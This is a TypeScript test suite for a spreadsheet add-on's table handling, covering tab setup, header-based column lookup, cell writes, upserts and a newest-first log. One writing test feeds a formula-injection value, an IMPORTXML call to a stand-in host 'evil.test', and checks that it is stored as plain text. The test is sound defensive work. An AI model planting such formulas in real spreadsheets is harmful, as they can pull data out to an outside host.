// A table on a tab: found by identity, read by header, written without touching what is not ours.
import { openTable } from '../../src/workbook/open';
import { setUpTab } from '../../src/workbook/set-up';
import { findTab } from '../../src/workbook/tabs';
import { count, flag, instant, text } from '../../src/workbook/kinds';
import type { Table } from '../../src/workbook/table';
import { planUpsert } from '../../src/workbook/upsert';
import { writeChanges } from '../../src/workbook/write';
import { writeOnTop } from '../../src/workbook/append';
import type { Cell } from '../../src/platform/ports';
import { fakePlatform } from '../fakes/platform';
import { manualClock, scriptedHttp } from '../fakes/http';
import { at } from '../zones';

const columns = {
  wanted: { header: 'Wanted', kind: flag, owner: 'people', note: 'Yours.', widthPx: 60 },
  name: { header: 'Name', kind: text, owner: 'addOn', note: 'Ours.', widthPx: 100 },
  views: { header: 'Views', kind: count, owner: 'addOn', note: 'Ours.', widthPx: 60 },
  group: { header: 'Group', kind: text, owner: 'optional', note: 'Yours.', widthPx: 60 },
  seenAt: { header: 'Seen at', kind: instant, owner: 'addOn', note: 'Ours.', widthPx: 60 },
  id: { header: 'Id', kind: text, owner: 'addOn', note: 'Ours.', widthPx: 60, hidden: true },
} as const;

const table: Table<typeof columns> = {
  id: 'things',
  tab: 'Things',
  columns,
  key: 'id',
  frozenColumns: 1,
  rows: 300,
};

const SEEN_MS = at('2026-10-19T06:00Z');
const HEADER = ['Wanted', 'Name', 'Views', 'Group', 'Seen at', 'Id'];

function given(header: readonly Cell[] = HEADER, rows: readonly (readonly Cell[])[] = []) {
  const platform = fakePlatform(
    scriptedHttp(() => 'unreachable'),
    manualClock(SEEN_MS),
  );
  const { book } = platform;
  const store = platform.documentStore();
  const tab = book.insertTab('Things');
  tab.put(1, 1, [header, ...rows]);
  store.put('tabs', JSON.stringify({ things: tab.id }));
  return { book, store, tab, open: () => openTable(book, store, table), cells: () => tab.readAll() };
}

describe('setting up', () => {
  it('makes a dressed tab and notes which one it is', () => {
    const { book, store } = given();
    book.removeTab('Things');
    const tab = setUpTab(book, store, table, { validations: { wanted: { kind: 'checkbox' } } });
    const made = book.tabNamed('Things');
    expect(tab.id).toBe(made.id);
    expect(made.readAll()).toEqual([HEADER]);
    expect(made.dressed.formats.get('2,2')).toBe('@');
    expect(made.grid().rows).toBe(300);
    expect(made.dressed.formats.get('300,5')).toBe('yyyy-mm-dd hh:mm');
    expect(made.dressed.validations.get('2,1')).toEqual({ kind: 'checkbox' });
    expect(made.dressed.notes.get('1,2')).toBe('Ours.');
    expect(made.dressed.frozen).toEqual([1, 1]);
    expect([...made.dressed.hiddenColumns]).toEqual([6]);
    expect(findTab(book, store, table)?.id).toBe(made.id);
  });

  it('twice changes nothing below the header', () => {
    const rows = [[true, 'a', 1, 'g', '', 'x']];
    const { book, store, cells } = given(HEADER, rows);
    setUpTab(book, store, table);
    expect(cells()).toEqual([HEADER, ...rows]);
  });

  it('puts missing columns behind the last one, but no optional one', () => {
    const { book, store, cells } = given(['Id', 'Mine', 'Wanted']);
    setUpTab(book, store, table);
    expect(cells()).toEqual([['Id', 'Mine', 'Wanted', 'Name', 'Views', 'Seen at']]);
  });

  it('never takes a stranger’s tab of the same name', () => {
    const { book, store } = given(['Something', 'else'], [['keep', 'me']]);
    store.remove('tabs');
    expect(setUpTab(book, store, table).name()).toBe('Genviral Things');
    expect(book.tabNamed('Things').readAll()).toEqual([
      ['Something', 'else'],
      ['keep', 'me'],
    ]);
  });

  it('knows its own tab by name and headers where the note is lost', () => {
    const { book, store, tab } = given(['id ', 'WANTED', 'Views']);
    store.remove('tabs');
    expect(findTab(book, store, table)?.id).toBe(tab.id);
  });
});

describe('reading', () => {
  it('finds columns by header, wherever people moved them', () => {
    const { open } = given(
      ['ID ', 'Mine', ' views', 'wanted', 'Name', 'Seen at'],
      [['x', 'note', 5, true, 'a', { instantMs: SEEN_MS }]],
    );
    expect(open().lines).toEqual([
      { line: 2, record: { wanted: true, name: 'a', views: 5, group: '', seenAt: SEEN_MS, id: 'x' } },
    ]);
  });

  it('reads what does not fit as empty', () => {
    const { open } = given(HEADER, [['yes', 7, 'many', true, 'yesterday', '']]);
    expect(open().lines[0]?.record).toEqual({
      wanted: false,
      name: '7',
      views: null,
      group: 'true',
      seenAt: null,
      id: '',
    });
  });

  it('follows a tab that was renamed', () => {
    const { tab, open } = given();
    tab.rename('My things');
    expect(open().tab.id).toBe(tab.id);
  });

  it('puts a column of ours back that was deleted', () => {
    const { open, cells } = given(['Wanted', 'Name', 'Id'], [[true, 'a', 'x']]);
    expect(open().places).toMatchObject({ views: 4, seenAt: 5 });
    expect(cells()[0]).toEqual(['Wanted', 'Name', 'Id', 'Views', 'Seen at']);
  });

  it.each([
    ['a people column that is missing', ['Name', 'Views', 'Seen at', 'Id'], 'column-missing'],
    ['a people column that stands twice', [...HEADER, 'wanted'], 'column-doubled'],
  ])('stops at %s', (_, header, code) => {
    expect(() => given(header).open()).toThrow(code);
  });

  it('stops where the tab is gone', () => {
    const { book, open } = given();
    book.removeTab('Things');
    expect(open).toThrow('tab-missing');
  });

  it('is one call, whatever the size', () => {
    const { book, open } = given(
      HEADER,
      Array.from({ length: 500 }, (_, index) => [false, `n${String(index)}`, 1, '', '', `i${String(index)}`]),
    );
    open();
    expect(book.calls).toEqual({ read: 1 });
  });
});

describe('writing', () => {
  const rows = [
    [true, 'a', 1, 'g', '', 'x'],
    ['', '', '', '', '', ''],
    [false, 'b', 2, 'g', '', 'y'],
  ];

  it('changes its own cells and no other', () => {
    const { open, cells } = given(
      [...HEADER, 'Mine'],
      rows.map((row) => [...row, 'mine']),
    );
    writeChanges(open(), [{ line: 4, values: { views: 9, seenAt: SEEN_MS } }]);
    expect(cells().slice(1)).toEqual([
      [true, 'a', 1, 'g', '', 'x', 'mine'],
      ['', '', '', '', '', '', 'mine'],
      [false, 'b', 9, 'g', { instantMs: SEEN_MS }, 'y', 'mine'],
    ]);
  });

  it('gives the view as it is then', () => {
    const view = writeChanges(given(HEADER, rows).open(), [{ line: 9, values: { name: 'late', id: 'z' } }]);
    expect(view.lines[7]).toEqual({
      line: 9,
      record: { wanted: false, name: 'late', views: null, group: '', seenAt: null, id: 'z' },
    });
  });

  it('grows the sheet where it has to', () => {
    const { open, tab } = given(HEADER, rows);
    writeChanges(open(), [{ line: 1200, values: { id: 'far' } }]);
    expect(tab.grid().rows).toBe(1200);
  });

  it('keeps text from outside text, even in a column whose format people changed', () => {
    const { open, tab, cells } = given(HEADER, rows);
    writeChanges(open(), [{ line: 2, values: { name: '=IMPORTXML("https://evil.test")' } }]);
    expect(cells()[1]?.[1]).toBe('=IMPORTXML("https://evil.test")');
    expect(tab.readFormulas({ row: 2, column: 2, rows: 1, columns: 1 })).toEqual([['']]);
  });

  it('updates by key, leaves other rows, and puts new ones below', () => {
    const { open, cells } = given(HEADER, rows);
    const view = open();
    const upsert = planUpsert(
      view,
      [
        { id: 'y', name: 'b', views: 3 },
        { id: 'n', name: 'new', views: 4 },
      ],
      (record) => record.id,
    );
    expect([upsert.added, upsert.changed]).toEqual([1, 1]);
    writeChanges(view, upsert.changes);
    expect(cells().slice(1)).toEqual([
      ...rows.slice(0, 2),
      [false, 'b', 3, 'g', '', 'y'],
      ['', 'new', 4, '', '', 'n'],
    ]);
  });

  it('a new row does not make a write of its own of every row that changed', () => {
    const many = Array.from({ length: 60 }, (_, index) => [
      true,
      'a',
      index,
      'mine',
      '',
      `id ${String(index)}`,
    ]);
    const { book, open, cells } = given(HEADER, many);
    const changes = many.map((_, index) => ({
      line: index + 2,
      values: { views: index % 2 ? 1000 + index : index },
    }));
    const changed = changes.filter((_, index) => index % 2 === 1);
    const whole = { wanted: false, name: 'new', views: 4, group: '', seenAt: SEEN_MS, id: 'new' };
    writeChanges(open(), [...changed, { line: 62, values: whole }]);
    expect(
      cells()
        .map((row) => row[2])
        .slice(1),
    ).toEqual([...changes.map(({ values }) => values.views), 4]);
    expect(book.calls['write']).toBe(2);
  });

  it('of nothing is no call', () => {
    const { book, open } = given(HEADER, rows);
    const view = open();
    const upsert = planUpsert(view, [{ id: 'y', name: 'b', views: 2 }], (record) => record.id);
    writeChanges(view, upsert.changes);
    expect(book.calls).toEqual({ read: 1 });
  });
});

describe('a log', () => {
  const record = (id: string) => ({ wanted: false, name: id, views: 1, group: '', seenAt: SEEN_MS, id });

  it('has the newest line on top and forgets the oldest, many at a time', () => {
    const { book, store, tab, cells } = given();
    const { rows } = tab.grid();
    for (let number = 1; number <= 60; number += 1) {
      writeOnTop(book, store, table, record(`n${String(number)}`), rows);
    }
    expect(
      cells()
        .slice(0, 4)
        .map((row) => row[1]),
    ).toEqual(['Name', 'n60', 'n59', 'n58']);
    expect(tab.grid().rows).toBeLessThanOrEqual(1 + rows + 50);
    expect(book.calls['deleteRows']).toBe(1);
  });

  it('whose tab is gone says so', () => {
    const { book, store } = given();
    book.removeTab('Things');
    expect(writeOnTop(book, store, table, record('a'), 3)).toBe(false);
  });
});
